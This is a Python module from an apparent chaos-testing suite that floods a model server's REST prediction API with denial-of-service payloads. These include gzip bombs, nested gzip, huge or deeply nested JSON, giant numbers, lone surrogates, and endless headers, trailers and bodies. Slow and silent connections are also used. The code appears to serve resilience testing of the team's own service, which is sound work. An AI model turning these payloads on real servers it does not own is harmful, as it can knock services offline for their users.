"""Attacks on the model server's REST API from its own network."""

import functools
import gzip
import zlib

from tools.chaos.attacks import flood
from tools.chaos.attacks.attack import ANSWER_S, Attack, attack
from tools.chaos.attacks.http_floods import BLOCK, CHUNKED, HOST, long
from tools.chaos.attacks.wire import Wire

PATH = b"/v1/models/CAT-DOG:predict"
# Below 64 MiB.
LARGE = 60_000_000


def request(body: bytes, headers: bytes = b"") -> bytes:
    return b"POST " + PATH + HOST + headers + b"Content-Length: %d\r\n\r\n" % len(body) + body


@functools.cache
def squeezed(head: bytes, part: bytes, count: int) -> bytes:
    """Return a gzip body; its uncompressed form is never in memory as a whole."""
    packer = zlib.compressobj(9, wbits=16 + zlib.MAX_WBITS)
    block = part * 10_000
    parts = [packer.compress(head), *(packer.compress(block) for _ in range(count // 10_000))]
    return request(b"".join([*parts, packer.flush()]), b"Content-Encoding: gzip\r\n")


def again_and_again(one: Attack, data: bytes) -> None:
    wire = Wire(one.rest_port, ANSWER_S * one.pace.slack + 1)
    one.for_a_while(lambda: one.exchange(data, one.rest_port, wire, may_cut=True))
    wire.close()


@attack("rest: gzip of 20 million empty lists, 58 KB", short=True)
def squeezed_lists(one: Attack) -> None:
    """A thousand times its size when decompressed, and 40 times that as Python objects."""
    again_and_again(one, squeezed(b'{"instances":[', b"[],", 20_000_000))


@attack("rest: 4 MB of empty lists")
def lists(one: Attack) -> None:
    """Without compression: each pair of brackets is an object."""
    again_and_again(one, request(b'{"instances":[' + b"[]," * 1_300_000 + b"[]]}"))


@attack("rest: 60 MB of numbers, and both keys")
def quoted(one: Attack) -> None:
    """The error message quotes 256 characters of the request. Rendering all of it would take 60 MB more."""
    again_and_again(one, request(b'{"inputs":1,"instances":[' + b"0," * (LARGE // 2) + b"0]}"))


@attack("rest: 60 MB of numbers of a picture")
def numbers(one: Attack) -> None:
    """Valid JSON with a wrong shape; each number becomes an object."""
    again_and_again(one, request(b'{"instances":[[' + b"0," * (LARGE // 2) + b"0]]}"))


@attack("rest: 60 MB of brackets in brackets")
def depth(one: Attack) -> None:
    """A recursive parser overflows its stack."""
    again_and_again(one, request(b'{"instances":' + b"[" * LARGE))


@attack("rest: a number of 60 million digits")
def long_number(one: Attack) -> None:
    """Parsing a number of n digits takes n * n steps without a limit."""
    again_and_again(one, request(b'{"instances":' + b"9" * LARGE + b"}"))


@attack("rest: a million names")
def names(one: Attack) -> None:
    """An example may be an object with a name per input; these names are unknown."""
    body = b'{"instances":[{' + b",".join(b'"%07d":0' % count for count in range(1_000_000)) + b"}]}"
    again_and_again(one, request(body))


@attack("rest: half a character in a name", short=True)
def lone_surrogate(one: Attack) -> None:
    """JSON can contain half of a surrogate pair, which is no valid text. An answer that quotes it can't be encoded."""
    again_and_again(one, request(b'{"signature_name":"\\ud800","instances":[0]}'))
    again_and_again(one, request(b'{"instances":[{"\\ud800":0}]}'))


@attack("rest: gzip within gzip within gzip")
def nested_gzip(one: Attack) -> None:
    """A server that decompresses it three times gets 60 GB from 60 KB."""
    body = gzip.compress(gzip.compress(gzip.compress(bytes(LARGE))))
    again_and_again(one, request(body, b"Content-Encoding: gzip, gzip, gzip\r\n"))


@attack("rest: headers without end")
def headers(one: Attack) -> None:
    """Short lines: each needs much more memory than its size."""
    flood.stream(one, one.rest_port, b"POST " + PATH + HOST, b"a:b\r\n" * (BLOCK // 5), long(one))


@attack("rest: trailers without end")
def trailers(one: Attack) -> None:
    """The same in trailers, after the last chunk."""
    flood.stream(one, one.rest_port, b"POST " + PATH + HOST + CHUNKED + b"0\r\n", b"a:b\r\n" * (BLOCK // 5), long(one))


@attack("rest: a body without end")
def body(one: Attack) -> None:
    """A chunked body, so its length is not announced."""
    part = b"%x\r\n" % BLOCK + b" " * BLOCK + b"\r\n"
    flood.stream(one, one.rest_port, b"POST " + PATH + HOST + CHUNKED, part, long(one))


@attack("rest: eight bodies of 60 MB that stop before their end")
def stalled_bodies(one: Attack) -> None:
    """Each has an allowed size and never ends."""
    data = request(bytes(LARGE))[:-1000]
    flood.at_leisure(one, one.rest_port, [data] * 8, long(one))


@attack("rest: 1,000 silent connections")
def silent(one: Attack) -> None:
    """Each uses a file and some memory, and never sends a request."""
    flood.hold(one, one.rest_port, 1000, b"POST " + PATH + HOST, long(one))


@attack("rest: the metrics, ten thousand times, and nobody reads them")
def unread(one: Attack) -> None:
    """The answers pile up in the server."""
    path = b"/monitoring/prometheus/metrics"
    flood.at_leisure(one, one.rest_port, [(b"GET " + path + HOST + b"\r\n") * 10_000] * 8, long(one))
